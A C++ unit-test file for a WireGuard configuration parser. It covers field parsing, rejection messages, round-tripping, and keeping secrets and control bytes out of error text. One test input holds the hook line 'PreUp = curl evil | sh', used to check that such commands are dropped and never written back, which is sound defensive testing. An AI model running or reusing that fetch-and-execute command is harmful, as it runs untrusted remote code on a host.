#include "platform/wireguard/tunnel_configuration.h"

#include <gtest/gtest.h>

#include <functional>
#include <string>
#include <vector>

namespace kelvo {
namespace {

constexpr const char* kPriv = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
constexpr const char* kPub1 = "ERERERERERERERERERERERERERERERERERERERERERE=";
constexpr const char* kPub2 = "IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=";
constexpr const char* kPsk = "MzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzM=";

std::string Iface(const std::string& extra = "") {
  return std::string("[Interface]\nPrivateKey = ") + kPriv + "\n" + extra;
}
std::string Peer(const char* key, const std::string& extra = "") {
  return std::string("[Peer]\nPublicKey = ") + key + "\n" + extra;
}

TEST(TunnelConfigurationTest, ParsesFullConfiguration) {
  const std::string text =
      "# exported\n[Interface]\nPrivateKey = " + std::string(kPriv) + "  # secret\n" +
      "Address = 10.8.0.2/32, fd00::2/128\nAddress = 10.9.0.2\n"
      "DNS = 1.0.0.1, 2606:4700::1111, corp.example\nListenPort = 51820\nMTU = 1420\n\n" +
      Peer(kPub1, "PresharedKey = " + std::string(kPsk) +
                      "\nAllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = vpn.example.com:51820\n"
                      "PersistentKeepalive = 25\n") +
      Peer(kPub2, "Endpoint = [2001:db8::1]:443\n");
  auto result = TunnelConfiguration::FromWgQuickConfig(text, "home");
  ASSERT_TRUE(result) << result.error().description();
  const TunnelConfiguration& c = *result;
  EXPECT_EQ(c.name, "home");
  EXPECT_EQ(c.interface.private_key[0], 0x00);
  EXPECT_EQ(c.interface.private_key[31], 0x1f);
  ASSERT_EQ(c.interface.addresses.size(), 3u);
  EXPECT_EQ(c.interface.addresses[1].ToString(), "fd00::2/128");
  EXPECT_EQ(c.interface.addresses[2].ToString(), "10.9.0.2/32");
  ASSERT_EQ(c.interface.dns.size(), 2u);
  EXPECT_EQ(c.interface.dns[1].ToString(), "2606:4700::1111");
  EXPECT_EQ(c.interface.dns_search, std::vector<std::string>{"corp.example"});
  EXPECT_EQ(c.interface.listen_port, 51820);
  EXPECT_EQ(c.interface.mtu, 1420);
  ASSERT_EQ(c.peers.size(), 2u);
  EXPECT_EQ(WireGuardKeyToBase64(c.peers[0].public_key), kPub1);
  EXPECT_TRUE(c.peers[0].preshared_key);
  EXPECT_EQ(c.peers[0].allowed_ips.size(), 2u);
  EXPECT_EQ(c.peers[0].endpoint->ToString(), "vpn.example.com:51820");
  EXPECT_EQ(c.peers[0].persistent_keepalive, 25);
  EXPECT_EQ(c.peers[1].endpoint->host, "2001:db8::1");
  EXPECT_EQ(c.peers[1].endpoint->ToString(), "[2001:db8::1]:443");
  EXPECT_FALSE(c.peers[1].persistent_keepalive);

  // Rendering gives text that parses back to the same configuration.
  auto again = TunnelConfiguration::FromWgQuickConfig(c.ToWgQuickConfig(), "home");
  ASSERT_TRUE(again) << again.error().description();
  EXPECT_EQ(*again, c);
}

// Inputs that must parse, with a check of what they mean.
TEST(TunnelConfigurationTest, Acceptances) {
  struct Case {
    const char* what;
    std::string text;
    std::function<void(const TunnelConfiguration&)> check;
  };
  const Case cases[] = {
      {"no peers", Iface(), [](auto& c) { EXPECT_TRUE(c.peers.empty()); }},
      {"keys and sections in any case",
       std::string("[INTERFACE]\nprivatekey=") + kPriv + "\n[peer]\nPUBLICKEY =" + kPub1 +
           "\nallowedIPs= 10.0.0.0/8\n",
       [](auto& c) { EXPECT_EQ(c.peers.at(0).allowed_ips.size(), 1u); }},
      {"CR LF line ends and surrounding blank lines",
       "\r\n\n[Interface]\r\nPrivateKey = " + std::string(kPriv) + "\r\nMTU = 1280\r\n\r\n",
       [](auto& c) { EXPECT_EQ(c.interface.mtu, 1280); }},
      {"tabs around the equals sign", Iface("ListenPort\t=\t0\n"),
       [](auto& c) { EXPECT_EQ(c.interface.listen_port, 0); }},
      {"empty AllowedIPs and trailing comma",
       Iface() + Peer(kPub1, "AllowedIPs =\nAllowedIPs = 10.0.0.1,\n"),
       [](auto& c) { EXPECT_EQ(c.peers.at(0).allowed_ips.size(), 1u); }},
      {"keepalive off and 0 both mean none",
       Iface() + Peer(kPub1, "PersistentKeepalive = off\n") +
           Peer(kPub2, "PersistentKeepalive = 0\n"),
       [](auto& c) {
         EXPECT_FALSE(c.peers.at(0).persistent_keepalive);
         EXPECT_FALSE(c.peers.at(1).persistent_keepalive);
       }},
      {"range bounds",
       Iface("ListenPort = 65535\nMTU = 576\n") +
           Peer(kPub1, "PersistentKeepalive = 65535\nEndpoint = 192.0.2.1:1\n"),
       [](auto& c) {
         EXPECT_EQ(c.interface.listen_port, 65535);
         EXPECT_EQ(c.peers.at(0).persistent_keepalive, 65535);
       }},
      {"prefix bounds", Iface("Address = 0.0.0.0/0, ::/0, 10.0.0.1/32, ::1/128\n"),
       [](auto& c) { EXPECT_EQ(c.interface.addresses.at(1).prefix, 0); }},
      {"IPv4-mapped IPv6", Iface("Address = ::ffff:10.0.0.1/128\n"),
       [](auto& c) {
         EXPECT_EQ(c.interface.addresses.at(0).address.family, IPAddress::Family::kV6);
       }},
      {"comment-only lines and a comment after a header",
       "# top\n[Interface] # the local side\n  # indented comment\nPrivateKey = " +
           std::string(kPriv) + "\n",
       [](auto&) {}},
  };
  for (const Case& c : cases) {
    auto result = TunnelConfiguration::FromWgQuickConfig(c.text);
    ASSERT_TRUE(result) << c.what << ": " << result.error().description();
    c.check(*result);
  }
}

// Inputs that must be refused, with the exact description.
TEST(TunnelConfigurationTest, WgQuickInterfaceKeys) {
  auto parsed = TunnelConfiguration::FromWgQuickConfig(
      Iface("Table = 1234\nFwMark = 0xCA6C\nPreUp = curl evil | sh\nPostUp = a\nPostUp = b\n"
            "PreDown = c\nPostDown = d\nSaveConfig = true\n") +
      Peer(kPub1));
  ASSERT_TRUE(parsed) << parsed.error().description();
  EXPECT_EQ(parsed->interface.table, 1234u);
  EXPECT_EQ(parsed->interface.fwmark, 51820u);
  // Named with their line for a warning; the commands themselves are not kept.
  EXPECT_EQ(parsed->ignored.lines,
            (std::vector<std::string>{"PreUp (line 5)", "PostUp (line 6)", "PostUp (line 7)",
                                      "PreDown (line 8)", "PostDown (line 9)",
                                      "SaveConfig (line 10)"}));
  auto again = TunnelConfiguration::FromWgQuickConfig(parsed->ToWgQuickConfig());
  ASSERT_TRUE(again);
  EXPECT_EQ(*again, *parsed);
  EXPECT_TRUE(again->ignored.lines.empty()) << "rendering never writes the commands back";

  auto off = TunnelConfiguration::FromWgQuickConfig(Iface("Table = off\nFwMark = off\n"));
  ASSERT_TRUE(off);
  EXPECT_TRUE(off->interface.table_off);
  EXPECT_EQ(off->interface.fwmark, std::nullopt);
  auto round = TunnelConfiguration::FromWgQuickConfig(off->ToWgQuickConfig());
  ASSERT_TRUE(round);
  EXPECT_TRUE(round->interface.table_off);
  auto named = TunnelConfiguration::FromWgQuickConfig(Iface("Table = Main\nFwMark = 0\n"));
  ASSERT_TRUE(named);
  EXPECT_EQ(named->interface.table, 254u);
  EXPECT_EQ(named->interface.fwmark, std::nullopt);
  auto automatic = TunnelConfiguration::FromWgQuickConfig(Iface("Table = auto\n"));
  ASSERT_TRUE(automatic);
  EXPECT_EQ(automatic->interface.table, std::nullopt);
  EXPECT_FALSE(automatic->interface.table_off);
}

TEST(TunnelConfigurationTest, Rejections) {
  struct Case {
    std::string text;
    std::string description;
    int line;
  };
  const Case cases[] = {
      // Structure.
      {"", "No [Interface] section", 0},
      {"# nothing\n\n", "No [Interface] section", 0},
      {"[Interface]\nMTU = 1420\n", "No PrivateKey in [Interface] (line 1)", 1},
      {Peer(kPub1) + Iface(), "[Peer] before [Interface] (line 1)", 1},
      {Iface() + "[Interface]\n", "Duplicate [Interface] section (line 3); the first is at line 1",
       3},
      {Iface() + "[Peers]\n", "Unknown section '[Peers]' (line 3)", 3},
      {Iface() + "[Peer\n", "Invalid section header '[Peer' (line 3)", 3},
      {"Address = 10.0.0.1\n" + Iface(), "Field 'Address' outside of any section (line 1)", 1},
      {Iface("MTU 1420\n"), "Invalid line (line 3): expected a section header or 'Key = Value'", 3},
      {Iface("Tabel = off\n"), "Unknown key 'Tabel' in [Interface] (line 3)", 3},
      {Iface("Table = 0\n"),
       "Invalid Table '0' in [Interface] (line 3): must be off, auto, main or a number", 3},
      {Iface("Table = 4294967296\n"),
       "Invalid Table '4294967296' in [Interface] (line 3): must be off, auto, main or a number",
       3},
      {Iface("FwMark = 0xg\n"),
       "Invalid FwMark '0xg' in [Interface] (line 3): must be off or a number", 3},
      {Iface("SaveConfig = true\nSaveConfig = false\n"),
       "Duplicate SaveConfig in [Interface] (line 4)", 4},
      {Iface("PublicKey = x\n"), "PublicKey belongs in [Peer], not in [Interface] (line 3)", 3},
      {Iface() + Peer(kPub1, "MTU = 1420\n"), "MTU belongs in [Interface], not in [Peer] (line 5)",
       5},
      {Iface("mtu = 1420\nMTU = 1400\n"), "Duplicate MTU in [Interface] (line 4)", 4},
      {Iface() + "[Peer]\nAllowedIPs = 10.0.0.0/8\n", "No PublicKey in [Peer] (line 3)", 3},
      {Iface() + "[Peer]\n" + Peer(kPub1), "No PublicKey in [Peer] (line 3)", 3},
      {Iface() + Peer(kPub1) + Peer(kPub1),
       std::string("Duplicate PublicKey '") + kPub1 +
           "' in [Peer] (line 6): the [Peer] at line 3 has the same key",
       6},
      {Iface() + Peer("AAAA"), "Invalid PublicKey 'AAAA' in [Peer] (line 4)", 4},
      {Iface() + "[Peer]\nPublicKey =\n", "Invalid PublicKey '' in [Peer] (line 4)", 4},
      {Iface() + Peer(kPub1, "PresharedKey = nope\n"),
       "Invalid PresharedKey in [Peer] (line 5): not a Base64 key of 32 bytes", 5},
      {Iface("DNS = 1.1.1.1.1\n"), "Invalid DNS '1.1.1.1.1' in [Interface] (line 3)", 3},
      {Iface("DNS = bad_name!\n"), "Invalid DNS 'bad_name!' in [Interface] (line 3)", 3},
      {Iface() + Peer(kPub1, "AllowedIPs = 0.0.0.0/0, ::/0, x\n"),
       "Invalid AllowedIPs 'x' in [Peer] (line 5)", 5},
      {Iface("ListenPort =\n"), "Invalid ListenPort in [Interface] (line 3): must be 0-65535", 3},
      {Iface("MTU = 575\n"), "Invalid MTU '575' in [Interface] (line 3): must be 576-65535", 3},
      {Iface("MTU = 99999999999999999999\n"),
       "Invalid MTU '99999999999999999999' in [Interface] (line 3): must be 576-65535", 3},
      {Iface() + Peer(kPub1, "PersistentKeepalive = 70000\n"),
       "Invalid PersistentKeepalive '70000' in [Peer] (line 5): must be 0-65535 or off", 5},
  };
  std::vector<Case> all(std::begin(cases), std::end(cases));
  // Private keys: short, 31 and 33 bytes, stray bits in the last character,
  // a character outside the alphabet.
  for (const char* key : {"AAAA", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
                          "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                          "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh9=",
                          "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwd*h8="}) {
    all.push_back({"[Interface]\nPrivateKey = " + std::string(key) + "\n",
                   "Invalid PrivateKey in [Interface] (line 2): not a Base64 key of 32 bytes", 2});
  }
  for (const char* address : {"10.0.0.256/32", "10.0.0.1/33", "fd00::1/129", "10.0.0.1/",
                              "10.0.0.1/-1", "10.0.0.1/+8", "10.0.0.1 10.0.0.2", "fe80::1%eth0",
                              "010.0.0.1"}) {
    all.push_back({Iface("Address = " + std::string(address) + "\n"),
                   "Invalid Address '" + std::string(address) + "' in [Interface] (line 3)", 3});
  }
  for (const char* endpoint : {"192.0.2.1", "2001:db8::1:51820", "[2001:db8::1]51820",
                               "[192.0.2.1]:51820", "host:0", "host:65536", ":51820",
                               "300.1.1.1:51820", "-bad.example:51820"}) {
    all.push_back({Iface() + Peer(kPub1, "Endpoint = " + std::string(endpoint) + "\n"),
                   "Invalid Endpoint '" + std::string(endpoint) + "' in [Peer] (line 5)", 5});
  }
  for (const char* port : {"65536", "-1", "5x"}) {
    all.push_back({Iface("ListenPort = " + std::string(port) + "\n"),
                   "Invalid ListenPort '" + std::string(port) +
                       "' in [Interface] (line 3): must be 0-65535",
                   3});
  }
  for (const Case& c : all) {
    auto result = TunnelConfiguration::FromWgQuickConfig(c.text);
    ASSERT_FALSE(result) << "accepted: " << c.text;
    EXPECT_EQ(result.error().description(), c.description) << c.text;
    EXPECT_EQ(result.error().line(), c.line) << c.text;
  }
}

// Error descriptions end up in logs: secrets and control bytes stay out.
TEST(TunnelConfigurationTest, ErrorsDoNotLeakSecretsOrControlBytes) {
  std::string almost_key(kPriv);
  almost_key.back() = 'x';
  auto bad_private =
      TunnelConfiguration::FromWgQuickConfig("[Interface]\nPrivateKey = " + almost_key + "\n");
  ASSERT_FALSE(bad_private);
  EXPECT_EQ(bad_private.error().description().find("AAECAw"), std::string::npos);

  // A key pasted on a line of its own reads as a field named by the key.
  auto pasted = TunnelConfiguration::FromWgQuickConfig(Iface(std::string(kPsk) + "\n"));
  ASSERT_FALSE(pasted);
  EXPECT_EQ(pasted.error().description(), "Unknown key in [Interface] (line 3)");

  auto control = TunnelConfiguration::FromWgQuickConfig(Iface("Address = 1\x1b[2J\n"));
  ASSERT_FALSE(control);
  EXPECT_EQ(control.error().description(), "Invalid Address '1?[2J' in [Interface] (line 3)");

  auto huge =
      TunnelConfiguration::FromWgQuickConfig(Iface("Address = " + std::string(1000, 'a') + "\n"));
  ASSERT_FALSE(huge);
  EXPECT_EQ(huge.error().description(),
            "Invalid Address '" + std::string(64, 'a') + "...' in [Interface] (line 3)");
}

TEST(WireGuardKeyTest, Base64RoundTripAndHex) {
  auto key = WireGuardKeyFromBase64(kPriv);
  ASSERT_TRUE(key);
  EXPECT_EQ(WireGuardKeyToBase64(*key), kPriv);
  EXPECT_EQ(WireGuardKeyToHex(*key),
            "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f");
  EXPECT_FALSE(WireGuardKeyFromBase64(std::string(" ") + kPriv));
  EXPECT_FALSE(WireGuardKeyFromBase64("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8"));
}

}  // namespace
}  // namespace kelvo
